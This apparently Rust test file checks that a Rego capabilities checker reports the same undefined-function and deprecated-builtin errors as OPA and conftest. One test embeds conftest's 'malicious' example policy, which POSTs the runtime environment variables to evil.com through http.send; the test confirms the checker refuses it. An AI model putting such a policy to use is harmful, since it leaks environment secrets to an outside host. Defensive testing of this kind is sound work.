//! The capabilities check against what OPA (v1.22.3) reports for the same modules.

use super::*;

const CONFTEST_EXAMPLE: &str = r#"{"builtins": [{"name": "count"}, {"name": "eq"}, {"name": "sprintf"}, {"name": "equal"}], "features": ["rego_v1"]}"#;

/// The refusal for `modules` (path, text) under `caps`, empty when they pass.
fn refused(caps: &str, modules: &[(&str, &str)]) -> String {
    let material = PolicyMaterial {
        rego: modules
            .iter()
            .map(|(path, text)| RegoFile {
                path: (*path).to_owned(),
                text: (*text).to_owned(),
                builtin: false,
            })
            .collect(),
        objects: Vec::new(),
    };
    match check(Some(&Capabilities::from_json(caps)), &material, |_| false) {
        Ok(()) => String::new(),
        Err(RegoError::NotCapable { refused, .. }) => refused
            .iter()
            .map(ToString::to_string)
            .collect::<Vec<_>>()
            .join("\n"),
        Err(e) => format!("other error: {e}"),
    }
}

/// The deprecated-builtin refusal for `modules` (path, text, Rego v0?) without a capabilities
/// file, empty when they pass.
fn deprecated(modules: &[(&str, &str, bool)]) -> String {
    let material = PolicyMaterial {
        rego: modules
            .iter()
            .map(|(path, text, _)| RegoFile {
                path: (*path).to_owned(),
                text: (*text).to_owned(),
                builtin: false,
            })
            .collect(),
        objects: Vec::new(),
    };
    let v0_of = |f: &RegoFile| modules.iter().any(|(p, _, v0)| *p == f.path && *v0);
    match check(None, &material, v0_of) {
        Ok(()) => String::new(),
        Err(RegoError::Deprecated { refused }) => refused
            .iter()
            .map(ToString::to_string)
            .collect::<Vec<_>>()
            .join("\n"),
        Err(e) => format!("other error: {e}"),
    }
}

/// What `opa eval` (v1.22.3) says of the same modules, in its order (by column): deprecated builtins are refused in Rego
/// v1 and in v0 modules importing `rego.v1`, not in plain v0, and not when the package defines a
/// function of that name.
#[test]
fn deprecated_builtins_are_refused_in_rego_v1_as_by_opa() {
    let calls = "package t\nq if {\n x := 1\n y := [any([true]), all([true]), re_match(\"a\", \"a\"), net.cidr_overlap(\"1.0.0.0/8\", \"1.1.1.1\"), set_diff({1}, {2}), cast_array([1])]\n}\n";
    assert_eq!(
        deprecated(&[("d5.rego", calls, false)]),
        [
            "d5.rego:4: rego_type_error: deprecated built-in function calls in expression: any",
            "d5.rego:4: rego_type_error: deprecated built-in function calls in expression: all",
            "d5.rego:4: rego_type_error: deprecated built-in function calls in expression: re_match",
            "d5.rego:4: rego_type_error: deprecated built-in function calls in expression: net.cidr_overlap",
            "d5.rego:4: rego_type_error: deprecated built-in function calls in expression: set_diff",
            "d5.rego:4: rego_type_error: deprecated built-in function calls in expression: cast_array",
        ]
        .join("\n")
    );
    let any = "package t\np := any([true])\n";
    assert_eq!(deprecated(&[("d4.rego", any, true)]), "");
    let v0_importing_v1 = "package t\nimport rego.v1\np := any([true])\n";
    assert_eq!(
        deprecated(&[("d3.rego", v0_importing_v1, true)]),
        "d3.rego:3: rego_type_error: deprecated built-in function calls in expression: any"
    );
    let own = "package t\nany(x) := true if x\np := any(1)\n";
    assert_eq!(deprecated(&[("d1.rego", own, false)]), "");
    // names that only end like one, and fields, are not calls of it
    let lookalikes = "package t\ncall(x) := x\np := call(1)\nq := input.any\n";
    assert_eq!(deprecated(&[("d6.rego", lookalikes, false)]), "");
}

/// conftest's `examples/capabilities`: its acceptance test wants both calls named (conftest
/// v0.71.1 prints these two lines).
#[test]
fn conftest_malicious_example_is_refused_as_by_opa() {
    let malicious = "package main\nimport rego.v1\n\nattack if {\n    request := {\n        \"url\": \"https://evil.com:9999\",\n        \"method\": \"POST\",\n        \"body\": opa.runtime().env,\n    }\n    response := http.send(request)\n}\n";
    assert_eq!(
        refused(
            CONFTEST_EXAMPLE,
            &[("capabilities/malicious.rego", malicious)]
        ),
        "capabilities/malicious.rego:8: rego_type_error: undefined function opa.runtime\ncapabilities/malicious.rego:10: rego_type_error: undefined function http.send"
    );
}

/// Each line is what `opa check --capabilities` (v1.22.3) reports for the same module under
/// a file with no builtins at all.
#[test]
fn operators_are_the_builtins_opa_names() {
    let module = "package main\n\ndeny contains msg if {\n  x := input.a\n  x != input.b\n  input.c + 1 > 2\n  s := {1} | {2} & {3}\n  some a in input.l\n  1 in input.l\n  every e in input.l { e }\n  print(\"hi\")\n  z := -x\n  msg := \"m\"\n}\n";
    assert_eq!(
        refused(r#"{"features": ["rego_v1"]}"#, &[("p.rego", module)]),
        [
            "p.rego:4: rego_type_error: undefined function eq",
            "p.rego:5: rego_type_error: undefined function neq",
            "p.rego:6: rego_type_error: undefined function gt",
            "p.rego:6: rego_type_error: undefined function plus",
            "p.rego:7: rego_type_error: undefined function eq",
            "p.rego:7: rego_type_error: undefined function or",
            "p.rego:7: rego_type_error: undefined function and",
            "p.rego:8: rego_type_error: undefined function eq",
            "p.rego:9: rego_type_error: undefined function internal.member_2",
            "p.rego:10: rego_type_error: undefined function eq",
            "p.rego:11: rego_type_error: undefined function internal.print",
            "p.rego:12: rego_type_error: undefined function eq",
            "p.rego:12: rego_type_error: undefined function minus",
            "p.rego:13: rego_type_error: undefined function eq",
        ]
        .join("\n")
    );
}

/// The policies' own functions are defined wherever they are called from (same package,
/// `data.…`, an import alias); a call to a function nobody defines is named as OPA names it.
#[test]
fn own_functions_pass_and_missing_ones_are_named() {
    let lib = "package lib.k8s\n\nname(x) := x.metadata.name\nis_pod(x) if x.kind == \"Pod\"\n";
    let lib = format!("{lib}default fallback(_) := 0\n");
    let main = "package main\nimport data.lib.k8s\nimport data.lib.k8s.name as n\n\nf(x) := x\n\ndeny contains msg if {\n  k8s.is_pod(input)\n  msg := sprintf(\"%s\", [f(n(input)), data.lib.k8s.name(input)])\n  k8s.nope(input)\n  data.lib.gone(1)\n  k8s.fallback(1)\n}\n";
    assert_eq!(
        refused(CONFTEST_EXAMPLE, &[("lib.rego", &lib), ("main.rego", main)]),
        "main.rego:10: rego_type_error: undefined function data.lib.k8s.nope\nmain.rego:11: rego_type_error: undefined function data.lib.gone"
    );
}

/// conftest v0.71.1 refuses these with the same messages.
#[test]
fn features_opa_compiles_by_are_honoured() {
    let imports = "package main\nimport rego.v1\n\np := 1\n";
    assert_eq!(
        refused(r#"{"builtins": []}"#, &[("r.rego", imports)]),
        "r.rego:2: rego_compile_error: rego.v1 import is not supported"
    );
    assert_eq!(
        refused(r#"{"features": ["rego_v1"]}"#, &[("r.rego", imports)]),
        ""
    );
    let template = "package main\n\np := $\"a{input.x}\"\n";
    assert_eq!(
        refused(r#"{"features": ["rego_v1"]}"#, &[("t.rego", template)]),
        "t.rego:3: rego_compile_error: template-strings are not supported"
    );
    // granted, a template needs no `concat`, nor `eq` for its values
    let granted =
        r#"{"builtins": [{"name": "internal.template_string"}], "features": ["template_strings"]}"#;
    assert_eq!(refused(granted, &[("t.rego", template)]), "");
}

#[test]
fn a_builtin_as_a_with_replacement_is_a_use() {
    let module = "package main\n\ng(_) := 1\n\np := x if {\n  x := g(1) with g as opa.runtime\n}\n";
    assert_eq!(
        refused(CONFTEST_EXAMPLE, &[("w.rego", module)]),
        "w.rego:6: rego_type_error: undefined function opa.runtime"
    );
}

/// What OPA's compiler writes as unifications, each checked with `opa check --capabilities` on
/// a file without `eq` (v1.22.3 names these lines).
#[test]
fn unifications_opa_adds_are_eq() {
    let all_but_eq =
        r#"{"builtins": [{"name": "count"}, {"name": "internal.print"}], "features": ["rego_v1"]}"#;
    let module = "package main\n\nq := 1\np := input.x\nr := [count(input)]\ns := q\nt := {\"a\": 1}\nf(x) := x\nu if {\n  print(1,\n    2)\n  input.x with input as {\"a\": q}\n}\n";
    assert_eq!(
        refused(all_but_eq, &[("u.rego", module)]),
        [
            "u.rego:4: rego_type_error: undefined function eq",
            "u.rego:6: rego_type_error: undefined function eq",
            "u.rego:10: rego_type_error: undefined function eq",
            "u.rego:11: rego_type_error: undefined function eq",
            "u.rego:12: rego_type_error: undefined function eq",
        ]
        .join("\n")
    );
}
